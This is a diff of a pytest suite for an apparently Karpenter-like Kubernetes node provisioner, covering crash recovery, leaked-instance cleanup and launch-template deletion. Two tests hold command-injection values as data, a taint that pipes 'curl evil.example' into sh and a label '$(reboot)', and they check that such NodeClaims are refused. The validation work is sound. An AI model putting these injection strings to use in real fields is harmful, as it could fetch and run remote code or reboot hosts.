@@ -8,315 +8,26 @@ unique); the sandbox end-to-end tests run the same flow against the real clients
 from __future__ import annotations
 
 import copy
-import itertools
-from dataclasses import dataclass, field
-from datetime import UTC, datetime, timedelta
+from datetime import timedelta
 from typing import Any
 
 import pytest
+from fakes import (
+    T0,
+    FakeClock,
+    FakeCloudProvider,
+    FakeCluster,
+    RecordingLogger,
+    RecordingMetrics,
+    instance,
+)
 from nodewright.api import labels
-from nodewright.cloud.pricetable import PriceTable
 from nodewright.cloud.provider import LaunchResult
-from nodewright.cluster.errors import Conflict
-from nodewright.cluster.resources import NODECLAIMS, NODEPOOLS
+from nodewright.cluster.objects import format_time
 from nodewright.context import Context
 from nodewright.provisioning import flow, lifecycle, nodeclaims, planning
 from nodewright.settings import Settings
-
-T0 = datetime(2026, 12, 2, 12, 0, 0, tzinfo=UTC)
-
-
-class FakeClock:
-    def __init__(self) -> None:
-        self.moment = T0
-        self.mono = 1000.0
-
-    def now(self) -> datetime:
-        return self.moment
-
-    def monotonic(self) -> float:
-        return self.mono
-
-    def sleep(self, seconds: float) -> None:
-        self.advance(seconds)
-
-    def advance(self, seconds: float) -> None:
-        self.mono += seconds
-        self.moment += timedelta(seconds=seconds)
-
-
-@dataclass
-class Snapshot:
-    nodes: list[dict[str, Any]]
-    nodeclaims: list[dict[str, Any]]
-    nodepools: list[dict[str, Any]]
-    ec2nodeclasses: list[dict[str, Any]]
-    pods: list[dict[str, Any]]
-    daemonsets: list[dict[str, Any]] = field(default_factory=list)
-    pdbs: list[dict[str, Any]] = field(default_factory=list)
-    persistent_volumes: list[dict[str, Any]] = field(default_factory=list)
-    persistent_volume_claims: list[dict[str, Any]] = field(default_factory=list)
-    storage_classes: list[dict[str, Any]] = field(default_factory=list)
-
-
-class FakeLease:
-    held_elsewhere = False
-
-    def acquire(self) -> bool:
-        return not self.held_elsewhere
-
-    def renew(self) -> None:
-        return None
-
-    def release(self) -> None:
-        return None
-
-
-class FakeCluster:
-    """Objects by kind and name; deletes honour finalizers as the API server does."""
-
-    def __init__(self, clock: FakeClock) -> None:
-        self.clock = clock
-        self.objects: dict[str, dict[str, dict[str, Any]]] = {
-            "NodeClaim": {},
-            "Node": {},
-            "Pod": {},
-            "NodePool": {},
-        }
-        self.objects["EC2NodeClass"] = {}
-        self.events: list[tuple[str, str, str, str]] = []
-        self.calls: list[str] = []
-        self.lease = FakeLease()
-        self.lease_identities: list[str] = []
-        self._uids = itertools.count(1)
-
-    def add(self, kind: str, obj: dict[str, Any]) -> dict[str, Any]:
-        obj = copy.deepcopy(obj)
-        meta = obj.setdefault("metadata", {})
-        meta.setdefault("uid", f"uid-{next(self._uids)}")
-        meta.setdefault("creationTimestamp", nodeclaims.format_time(self.clock.now()))
-        obj["kind"] = kind
-        self.objects[kind][meta["name"]] = obj
-        return copy.deepcopy(obj)
-
-    def _list(self, kind: str) -> list[dict[str, Any]]:
-        return [copy.deepcopy(o) for o in self.objects[kind].values()]
-
-    def snapshot(self) -> Snapshot:
-        return Snapshot(
-            nodes=self._list("Node"),
-            nodeclaims=self._list("NodeClaim"),
-            nodepools=self._list("NodePool"),
-            ec2nodeclasses=self._list("EC2NodeClass"),
-            pods=self._list("Pod"),
-        )
-
-    def list_pending_pods(self) -> list[dict[str, Any]]:
-        return self._list("Pod")
-
-    def list_nodeclaims(self) -> list[dict[str, Any]]:
-        return self._list("NodeClaim")
-
-    def create_nodeclaim(self, body: dict[str, Any]) -> dict[str, Any]:
-        if body["metadata"]["name"] in self.objects["NodeClaim"]:
-            raise Conflict(409, "exists", reason="AlreadyExists")
-        self.calls.append(f"create {body['metadata']['name']}")
-        return self.add("NodeClaim", body)
-
-    def patch(
-        self, resource: Any, name: str, patch: dict[str, Any], *, subresource: str | None = None
-    ) -> Any:
-        kind = {NODECLAIMS.plural: "NodeClaim", NODEPOOLS.plural: "NodePool"}[resource.plural]
-        self.calls.append(f"patch {kind} {name} {subresource or ''}".strip())
-        _merge(self.objects[kind][name], patch)
-        return copy.deepcopy(self.objects[kind][name])
-
-    def patch_nodeclaim_status(self, name: str, status: dict[str, Any]) -> dict[str, Any]:
-        self.calls.append(f"status {name}")
-        _merge(self.objects["NodeClaim"][name], {"status": status})
-        return copy.deepcopy(self.objects["NodeClaim"][name])
-
-    def update_with_retry(self, resource: Any, name: str, mutate: Any) -> dict[str, Any] | None:
-        assert resource.plural == "nodes"
-        patch = mutate(copy.deepcopy(self.objects["Node"][name]))
-        if patch is not None:
-            _merge(self.objects["Node"][name], patch)
-        return copy.deepcopy(self.objects["Node"][name])
-
-    def patch_node(self, name: str, patch: dict[str, Any]) -> dict[str, Any]:
-        _merge(self.objects["Node"][name], patch)
-        return copy.deepcopy(self.objects["Node"][name])
-
-    def delete_node(self, name: str) -> None:
-        self.objects["Node"].pop(name, None)
-
-    def delete_nodeclaim(self, name: str) -> None:
-        obj = self.objects["NodeClaim"].get(name)
-        if obj is None:
-            return
-        if obj["metadata"].get("finalizers"):
-            obj["metadata"].setdefault("deletionTimestamp", nodeclaims.format_time(self.clock.now()))
-        else:
-            del self.objects["NodeClaim"][name]
-
-    def remove_finalizer(self, resource: Any, name: str, finalizer: str) -> None:
-        obj = self.objects["NodeClaim"].get(name)
-        if obj is None:
-            return
-        obj["metadata"]["finalizers"] = [f for f in obj["metadata"].get("finalizers", []) if f != finalizer]
-        if not obj["metadata"]["finalizers"] and obj["metadata"].get("deletionTimestamp"):
-            del self.objects["NodeClaim"][name]
-
-    def record_event(
-        self, involved: dict[str, Any], reason: str, message: str, *, event_type: str = "Normal"
-    ) -> None:
-        self.events.append((involved.get("kind", ""), involved["metadata"]["name"], reason, message))
-
-    def writer_lease(self, identity: str, **_: Any) -> FakeLease:
-        self.lease_identities.append(identity)
-        return self.lease
-
-
-def _merge(target: dict[str, Any], patch: dict[str, Any]) -> None:
-    for key, value in patch.items():
-        if isinstance(value, dict) and isinstance(target.get(key), dict):
-            _merge(target[key], value)
-        elif value is None:
-            target.pop(key, None)
-        else:
-            target[key] = copy.deepcopy(value)
-
-
-@dataclass
-class Offering:
-    zone: str
-    capacity_type: str
-    price: float
-    available: bool = True
-
-
-@dataclass
-class InstanceType:
-    name: str
-    offerings: list[Offering]
-    capacity: dict[str, int] = field(default_factory=lambda: {"cpu": 4000, "memory": 16 * 2**30, "pods": 58})
-    allocatable: dict[str, int] = field(
-        default_factory=lambda: {"cpu": 3920, "memory": 14 * 2**30, "pods": 58}
-    )
-    labels: dict[str, str] = field(default_factory=lambda: {labels.ARCH: "amd64"})
-
-
-@dataclass
-class Instance:
-    """The fields of ``nodewright.cloud.provider.Instance`` the flow reads."""
-
-    id: str
-    instance_type: str
-    zone: str
-    capacity_type: str
-    nodeclaim: str
-    launch_time: datetime
-    image_id: str = "ami-1"
-    subnet_id: str = "subnet-1"
-
-    @property
-    def provider_id(self) -> str:
-        return f"aws:///{self.zone}/{self.id}"
-
-
-class FakeCloud:
-    """The CloudProvider's interface over a dict of instances."""
-
-    def __init__(self, clock: FakeClock) -> None:
-        self.clock = clock
-        self.instances: dict[str, Instance] = {}
-        self.terminated: list[str] = []
-        self.requests: list[Any] = []
-        self.fail_with: Exception | None = None
-        self._ids = itertools.count(1)
-        self.types = [
-            InstanceType("m5.large", [Offering("us-west-2a", "on-demand", 0.096)]),
-            InstanceType("m5.xlarge", [Offering("us-west-2a", "on-demand", 0.192)]),
-        ]
-
-    @property
-    def catalog(self) -> Any:
-        """The price table the flow reads for the cluster's $/h: what the fake's offerings say."""
-        on_demand = {
-            t.name: o.price for t in self.types for o in t.offerings if o.capacity_type == "on-demand"
-        }
-        spot = {
-            (t.name, o.zone): o.price for t in self.types for o in t.offerings if o.capacity_type == "spot"
-        }
-        table = PriceTable(on_demand=on_demand, spot=spot)
-        return type("FakeCatalog", (), {"prices": staticmethod(lambda: table)})()
-
-    @property
-    def creates(self) -> int:
-        return len(self.requests)
-
-    def instance_types(self, nodeclass: dict[str, Any]) -> list[InstanceType]:
-        return self.types
-
-    def find_by_nodeclaim(self, name: str) -> Instance | None:
-        return next((i for i in self.instances.values() if i.nodeclaim == name), None)
-
-    def create(self, request: Any) -> LaunchResult:
-        self.requests.append(request)
-        if self.fail_with:
-            raise self.fail_with
-        chosen = request.instance_types[0]
-        offering = chosen.offerings[0]
-        instance = Instance(
-            f"i-{next(self._ids):017x}",
-            chosen.name,
-            offering.zone,
-            offering.capacity_type,
-            request.nodeclaim_name,
-            self.clock.now(),
-        )
-        self.instances[instance.id] = instance
-        return LaunchResult(
-            instance_id=instance.id,
-            instance_type=instance.instance_type,
-            zone=instance.zone,
-            capacity_type=instance.capacity_type,
-            provider_id=instance.provider_id,
-            image_id=instance.image_id,
-            price=offering.price,
-        )
-
-    def list(self) -> list[Instance]:
-        return list(self.instances.values())
-
-    def delete(self, instance_id: str) -> bool:
-        if self.instances.pop(instance_id, None):
-            self.terminated.append(instance_id)
-            return True
-        return False
-
-    def delete_by_nodeclaim(self, name: str) -> list[str]:
-        return [i.id for i in list(self.instances.values()) if i.nodeclaim == name and self.delete(i.id)]
-
-
-class Metrics:
-    def __init__(self) -> None:
-        self.values: list[tuple[str, float]] = []
-        self.namespace = "Test"
-
-    def add_metric(self, name: str, unit: Any, value: float) -> None:
-        self.values.append((name, value))
-
-
-class Logger:
-    def __init__(self) -> None:
-        self.records: list[tuple[str, str]] = []
-
-    def info(self, msg: str, **_: Any) -> None:
-        self.records.append(("info", msg))
-
-    def warning(self, msg: str, **_: Any) -> None:
-        self.records.append(("warning", msg))
+from nodewright.state import nodepools
 
 
 def pending_pod(name: str) -> dict[str, Any]:
@@ -348,16 +59,16 @@ NODECLASS = {"apiVersion": "karpenter.k8s.aws/v1", "metadata": {"name": "default
 
 
 @pytest.fixture
-def world(monkeypatch: pytest.MonkeyPatch) -> tuple[Context, FakeCluster, FakeCloud]:
+def world(monkeypatch: pytest.MonkeyPatch) -> tuple[Context, FakeCluster, FakeCloudProvider]:
     clock = FakeClock()
-    cluster, cloud = FakeCluster(clock), FakeCloud(clock)
+    cluster, cloud = FakeCluster(clock), FakeCloudProvider(clock)
     cluster.add("NodePool", NODEPOOL)
     cluster.add("EC2NodeClass", NODECLASS)
     settings = Settings(cluster_name="test", region="us-west-2")
-    ctx = Context(settings, cluster, cloud, None, Logger(), Metrics(), clock=clock)
-    monkeypatch.setattr(planning, "validation_errors", lambda doc: list(doc.get("errors", [])))
-    monkeypatch.setattr(planning, "_schedule", StandInPlanner())
-    lifecycle.reset_gc_clock()
+    ctx = Context(settings, cluster, cloud, None, RecordingLogger(), RecordingMetrics(), clock=clock)
+    monkeypatch.setattr(nodepools, "validation_errors", lambda doc: list(doc.get("errors", [])))
+    monkeypatch.setattr(planning, "plan", StandInPlanner())
+    lifecycle.reset_gc_clock(templates=True)
     monkeypatch.setattr(flow, "_recent_events", {})
     return ctx, cluster, cloud
 
@@ -368,7 +79,7 @@ class StandInPlanner:
     def __init__(self) -> None:
         self.covered: set[str] = set()
 
-    def __call__(self, world: Any, pending: list[dict[str, Any]], pools: list[Any], *_: Any) -> Any:
+    def __call__(self, world: Any, pending: list[dict[str, Any]], pools: list[Any]) -> Any:
         fresh = [p for p in pending if p["metadata"]["name"] not in self.covered]
         view = planning.PlanView()
         if fresh and pools:
@@ -421,7 +132,11 @@ def test_the_cluster_cost_counts_every_launched_nodeclaim_from_the_price_table(w
     assert ("ClusterCostPerHour", pytest.approx(0.096)) in ctx.metrics.values
 
 
-def crash_around_create(cloud: FakeCloud, *, before: bool) -> None:
+class FunctionDied(BaseException):
+    """The Lambda function stops (timeout, out of memory, kill): no ``except Exception`` sees it."""
+
+
+def crash_around_create(cloud: FakeCloudProvider, *, before: bool) -> None:
     """The function dies once, just before CreateFleet or just after it returned (before the status write)."""
     real = cloud.create
 
@@ -429,7 +144,7 @@ def crash_around_create(cloud: FakeCloud, *, before: bool) -> None:
         cloud.create = real  # type: ignore[method-assign]
         if not before:
             real(request)
-        raise RuntimeError("injected crash")
+        raise FunctionDied("injected crash")
 
     cloud.create = dying  # type: ignore[method-assign]
 
@@ -440,7 +155,7 @@ def test_crash_between_create_and_launch_is_finished_by_the_next_pass_with_one_i
 
     crash_around_create(cloud, before=True)
 
-    with pytest.raises(RuntimeError, match="injected crash"):
+    with pytest.raises(FunctionDied, match="injected crash"):
         flow.provision(ctx)
     assert len(cluster.objects["NodeClaim"]) == 1
     assert not cloud.instances
@@ -462,7 +177,7 @@ def test_crash_between_launch_and_status_write_adopts_the_instance_instead_of_la
 
     crash_around_create(cloud, before=False)
 
-    with pytest.raises(RuntimeError, match="injected crash"):
+    with pytest.raises(FunctionDied, match="injected crash"):
         flow.provision(ctx)
     assert len(cloud.instances) == 1
 
@@ -481,7 +196,7 @@ def test_a_launch_that_fails_deletes_the_nodeclaim_with_an_event_and_counts_the_
     ctx, cluster, cloud = world
     cluster.add("Pod", pending_pod("inflate-1"))
     cloud.fail_with = cloud_errors.InsufficientCapacityError(
-        "x", [("InsufficientInstanceCapacity", "m5.large", "us-west-2a", "on-demand", "")]
+        "x", [cloud_errors.FleetError("InsufficientInstanceCapacity", "m5.large", "us-west-2a", "on-demand")]
     )
 
     report = flow.provision(ctx)
@@ -552,14 +267,46 @@ def test_an_instance_that_never_registers_is_terminated_after_fifteen_minutes(wo
 
 def test_leaked_instances_are_terminated_after_the_grace_period_only(world: Any) -> None:
     ctx, _cluster, cloud = world
-    young = Instance("i-young", "m5.large", "us-west-2a", "on-demand", "gone-1", T0)
-    old = Instance("i-old", "m5.large", "us-west-2a", "on-demand", "gone-2", T0 - timedelta(minutes=10))
+    young = instance("i-young", "m5.large", "us-west-2a", "on-demand", "gone-1", launch_time=T0)
+    ten_minutes_ago = T0 - timedelta(minutes=10)
+    old = instance("i-old", "m5.large", "us-west-2a", "on-demand", "gone-2", launch_time=ten_minutes_ago)
     cloud.instances = {"i-young": young, "i-old": old}
 
     report = flow.provision(ctx)
 
     assert report.lifecycle.leaked_terminated == ["i-old"]
     assert set(cloud.instances) == {"i-young"}
+
+
+def test_a_second_instance_tagged_with_a_live_nodeclaim_is_a_leak_once_registration_would_have_failed(
+    world: Any,
+) -> None:
+    ctx, cluster, cloud = world
+    cluster.add("Pod", pending_pod("inflate-1"))
+    name = flow.provision(ctx).created[0]
+    claim = cluster.objects["NodeClaim"][name]
+    recorded = claim["status"]["instanceID"]
+    cluster.add(
+        "Node",
+        {
+            "metadata": {"name": "ip-10-0-0-1", "labels": {}},
+            "spec": {"providerID": claim["status"]["providerID"]},
+            "status": {"conditions": [{"type": "Ready", "status": "True"}]},
+        },
+    )
+    twin = instance("i-twin", "m5.large", "us-west-2a", "on-demand", name, launch_time=ctx.clock.now())
+    cloud.instances["i-twin"] = twin
+
+    lifecycle.reset_gc_clock()
+    assert flow.provision(ctx).lifecycle.leaked_terminated == []  # young: it might still be adopted
+
+    ctx.clock.advance(lifecycle.REGISTRATION_TTL.total_seconds() + 60)
+    lifecycle.reset_gc_clock()
+    report = flow.provision(ctx)
+
+    assert report.lifecycle.leaked_terminated == ["i-twin"]
+    assert name in cluster.objects["NodeClaim"]
+    assert recorded in cloud.instances
 
 
 def test_deleting_a_nodepool_deletes_its_nodeclaims_which_terminate_their_instances(world: Any) -> None:
@@ -692,9 +439,7 @@ def test_a_pod_no_nodepool_can_place_does_not_keep_the_loop_awake_forever(loopin
     ctx, cluster, _clock, pass_times = looping
     cluster.objects["NodePool"].clear()
     stuck = pending_pod("stuck")
-    stuck["status"]["conditions"][0]["lastTransitionTime"] = nodeclaims.format_time(
-        T0 - timedelta(minutes=20)
-    )
+    stuck["status"]["conditions"][0]["lastTransitionTime"] = format_time(T0 - timedelta(minutes=20))
     cluster.add("Pod", stuck)
 
     report = loop.run(ctx, remaining_seconds=90)
@@ -781,13 +526,13 @@ def test_replacement_capacity_is_launched_for_the_reschedulable_pods_of_a_node_a
 
     ctx, cluster, cloud = world
     seen: list[Any] = []
-    planner = planning._schedule
+    planner = planning.plan
 
-    def recording(w: Any, pending: list[dict[str, Any]], *rest: Any) -> Any:
+    def recording(w: Any, pending: list[dict[str, Any]], pools: list[Any]) -> Any:
         seen.append((w, pending))
-        return planner(w, pending, *rest)
+        return planner(w, pending, pools)
 
-    planning._schedule = recording  # the fixture's monkeypatch restores the original
+    planning.plan = recording  # the fixture's monkeypatch restores the original
     node = cluster.add(
         "Node",
         {"metadata": {"name": "doomed", "labels": {labels.NODEPOOL: "default"}}, "spec": {"providerID": "p"}},
@@ -827,3 +572,156 @@ def test_nothing_is_launched_when_the_displaced_node_runs_only_daemonset_pods(wo
 
     assert report.created == []
     assert cloud.instances == {}
+
+
+def test_unused_launch_templates_are_deleted_by_a_pass_at_most_every_ten_minutes(world: Any) -> None:
+    ctx, _cluster, cloud = world
+    cloud.unused_templates = ["nodewright-old"]
+
+    first = flow.provision(ctx)
+    assert first.lifecycle.templates_deleted == ["nodewright-old"]
+    assert cloud.template_cleanups == 1
+
+    cloud.unused_templates = ["nodewright-newer"]
+    ctx.clock.advance(5 * 60)
+    lifecycle.reset_gc_clock()  # invocations a minute apart: leaks are looked for, templates wait
+    assert flow.provision(ctx).lifecycle.templates_deleted == []
+    assert cloud.template_cleanups == 1
+
+    ctx.clock.advance(5 * 60)
+    assert flow.provision(ctx).lifecycle.templates_deleted == ["nodewright-newer"]
+    assert cloud.template_cleanups == 2
+
+
+def test_a_failing_launch_template_cleanup_does_not_stop_the_pass(world: Any) -> None:
+    ctx, cluster, cloud = world
+    cluster.add("Pod", pending_pod("inflate-1"))
+
+    def throttled() -> list[str]:
+        raise RuntimeError("Throttling: Rate exceeded")
+
+    cloud.cleanup_launch_templates = throttled
+
+    report = flow.provision(ctx)
+
+    assert len(report.launched) == 1
+    assert ("warning", "launch template cleanup failed") in ctx.logger.records
+
+
+def hand_made_nodeclaim(name: str, **spec: Any) -> dict[str, Any]:
+    """A NodeClaim written with kubectl, not by a pass: no NodePool made it."""
+    return {
+        "apiVersion": "karpenter.sh/v1",
+        "kind": "NodeClaim",
+        "metadata": {"name": name, "labels": {}},
+        "spec": {
+            "nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"},
+            "requirements": [
+                {"key": labels.INSTANCE_TYPE, "operator": "In", "values": ["m5.large"]},
+            ],
+            **spec,
+        },
+    }
+
+
+def test_a_hand_made_nodeclaim_with_a_hostile_taint_is_refused_and_never_launched(world: Any) -> None:
+    ctx, cluster, cloud = world
+    hostile = [{"key": "x", "value": "a';curl evil.example|sh;'", "effect": "NoSchedule"}]
+    cluster.add("NodeClaim", hand_made_nodeclaim("by-hand", taints=hostile))
+    cluster.add("NodeClaim", hand_made_nodeclaim("honest"))
+
+    report = flow.provision(ctx)
+
+    assert [r.nodeclaim_name for r in cloud.requests] == ["honest"]
+    assert [(f.nodeclaim, f.code) for f in report.failures] == [("by-hand", "InvalidNodeClaim")]
+    refused = cluster.objects["NodeClaim"]["by-hand"]
+    condition = nodeclaims.condition(refused, "Launched")
+    assert condition is not None
+    assert (condition["status"], condition["reason"]) == ("False", "InvalidNodeClaim")
+    assert "spec.taints[0].value" in condition["message"]
+    assert [e for e in cluster.events if e[1] == "by-hand" and e[2] == "InvalidNodeClaim"]
+
+    again = flow.provision(ctx)  # refused once: no second event, no second failure counted
+
+    assert again.failures == []
+    assert len([e for e in cluster.events if e[1] == "by-hand"]) == 1
+    assert [r.nodeclaim_name for r in cloud.requests] == ["honest"]
+
+
+def test_a_hand_made_nodeclaim_with_a_hostile_label_is_refused(world: Any) -> None:
+    ctx, cluster, cloud = world
+    claim = hand_made_nodeclaim("by-hand")
+    claim["metadata"]["labels"] = {"example.com/team": "$(reboot)"}
+    cluster.add("NodeClaim", claim)
+
+    report = flow.provision(ctx)
+
+    assert cloud.requests == []
+    assert [f.code for f in report.failures] == ["InvalidNodeClaim"]
+
+
+def test_an_unexpected_error_launching_one_nodeclaim_fails_that_nodeclaim_alone(
+    world: Any, capsys: pytest.CaptureFixture[str]
+) -> None:
+    ctx, cluster, cloud = world
+    cluster.add("NodeClaim", hand_made_nodeclaim("first"))
+    cluster.add("NodeClaim", hand_made_nodeclaim("second"))
+    real = cloud.create
+
+    def broken_for_first(request: Any) -> LaunchResult:
+        if request.nodeclaim_name == "first":
+            raise UnicodeEncodeError("us-ascii", "\u2014", 0, 1, "ordinal not in range(128)")
+        return real(request)
+
+    cloud.create = broken_for_first  # type: ignore[method-assign]
+
+    report = flow.provision(ctx)
+
+    assert [x.nodeclaim for x in report.launched] == ["second"]
+    assert [(f.nodeclaim, f.code) for f in report.failures] == [("first", "UnicodeEncodeError")]
+    first = cluster.objects["NodeClaim"]["first"]
+    condition = nodeclaims.condition(first, "Launched")
+    assert condition is not None
+    assert (condition["status"], condition["reason"]) == ("False", "LaunchFailed")
+    assert [e for e in cluster.events if e[1] == "first" and e[2] == "LaunchFailed"]
+    assert '"ErrorCode":"UnicodeEncodeError","LaunchErrors":[1.0]' in capsys.readouterr().out
+
+    cloud.create = real  # type: ignore[method-assign]
+    retried = flow.provision(ctx)
+
+    assert [x.nodeclaim for x in retried.launched] == ["first"]
+    assert nodeclaims.is_true(cluster.objects["NodeClaim"]["first"], "Launched")
+
+
+def test_a_nodeclaim_never_launched_is_deleted_after_the_registration_timeout(world: Any) -> None:
+    ctx, cluster, cloud = world
+    cluster.add(
+        "NodeClaim",
+        hand_made_nodeclaim("stuck", taints=[{"key": "x", "value": "a b", "effect": "NoSchedule"}]),
+    )
+    flow.provision(ctx)
+    assert "stuck" in cluster.objects["NodeClaim"]
+
+    ctx.clock.advance(lifecycle.REGISTRATION_TTL.total_seconds() + 1)
+    report = flow.provision(ctx)
+
+    assert report.lifecycle.timed_out == ["stuck"]
+    assert "stuck" not in cluster.objects["NodeClaim"]
+    assert cloud.requests == []
+
+
+def test_a_converted_v1beta1_nodepools_kubelet_reaches_the_launch(world: Any) -> None:
+    from nodewright.api.conversion_review import KUBELET_ANNOTATION
+
+    ctx, cluster, cloud = world
+    pool = cluster.objects["NodePool"]["default"]
+    pool["metadata"]["annotations"] = {
+        KUBELET_ANNOTATION: '{"containerRuntime": "containerd", "maxPods": 20}'
+    }
+    cluster.add("Pod", pending_pod("inflate-1"))
+
+    flow.provision(ctx)
+
+    assert cloud.requests[0].kubelet == {"maxPods": 20}  # in v1's form: the runtime setting is gone
+    claim = next(iter(cluster.objects["NodeClaim"].values()))
+    assert claim["metadata"]["annotations"][KUBELET_ANNOTATION]
